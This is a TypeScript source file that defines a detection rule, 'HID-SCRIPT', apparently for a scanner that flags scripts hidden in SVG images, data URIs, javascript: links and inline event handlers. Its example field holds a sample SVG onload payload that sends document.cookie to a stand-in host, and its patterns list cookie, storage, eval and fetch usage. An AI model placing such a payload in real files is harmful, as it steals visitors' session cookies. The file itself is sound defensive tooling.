import { defineTextRule } from "../../text-rule.ts";
import type { Judgement, Match } from "../../text-rule.ts";
import { family } from "./family.ts";

export const uri = defineTextRule({
  ...family,
  id: "HID-SCRIPT",
  severity: "high",
  summary: "A page or a picture holds a script, or a link that runs one.",
  why: "It runs when the file is opened or shown, with the rights of whoever opens it.",
  fix: "Ship pictures without scripts and pages whose scripts are files of their own.",
  example: {
    path: "logo.svg",
    caught: "<svg onload=\"fetch('https://x.example.invalid/'+document.cookie)\"></svg>\n",
    instead: "<svg><path d='M0 0'/></svg>\n",
  },
  triggers: [
    {
      anchors: ["data:text/html", "data:application/xhtml", "data:text/javascript", "data:application/javascript", "data:image/svg+xml"],
      pattern: /data:[a-z/+]{4,30}(?:;[a-z0-9=-]{1,30}){0,3},(?<hidden>[^\s"'<>)]{0,4000}|[^\n]{0,400})/iuy,
      judge: judgeDataUri,
    },
    {
      anchors: ["javascript:"],
      pattern: /(?<=[("'= ])javascript:(?!void|;|\/\/)[^\s"']{3,400}/iuy,
      judge: ({ place }) => (place.kind === "script" || (place.kind === "prose" && (place.isInFence || place.isQuoted)) ? null : {}),
    },
    {
      anchors: ["onload=", "onerror=", "onbegin=", "onclick=", "onmouseover=", "<script", "<foreignobject"],
      pattern: /(?:on(?:load|error|begin|click|mouseover)\s{0,4}=\s{0,4}["'][^"'\n]{3,400}|<script\b[^>]{0,200}>|<foreignobject)/iuy,
      judge: judgeSvg,
    },
  ],
});

function judgeDataUri({ text, start, end, place }: Match): Judgement | null {
  const value = text.slice(start, end);
  if (/^data:image\/svg/iu.test(value)) return /<script|%3Cscript|onload|PHNjcmlwd/iu.test(value) ? {} : null;
  return place.kind === "script" && !/import\s*\($/u.test(place.linePrefix) ? { action: "warn" } : {};
}

/** A web page has scripts; a picture has none. */
function judgeSvg({ text, start, end, place }: Match): Judgement | null {
  if (/\.svg$/iu.test(place.path)) return {};
  if (place.kind === "markup")
    return /document\.cookie|localStorage|atob\(|eval\(/iu.test(text.slice(start, end + 200)) &&
      /https?:|fetch|src=/iu.test(text.slice(start, end + 200))
      ? {}
      : null;
  if (place.kind !== "prose" || place.isInFence || place.isQuoted || !/^\s*$/u.test(place.linePrefix)) return null;
  return /fetch|eval|cookie|atob|document|location|https?:/iu.test(text.slice(start, end + 300)) ? { action: "warn" } : null;
}
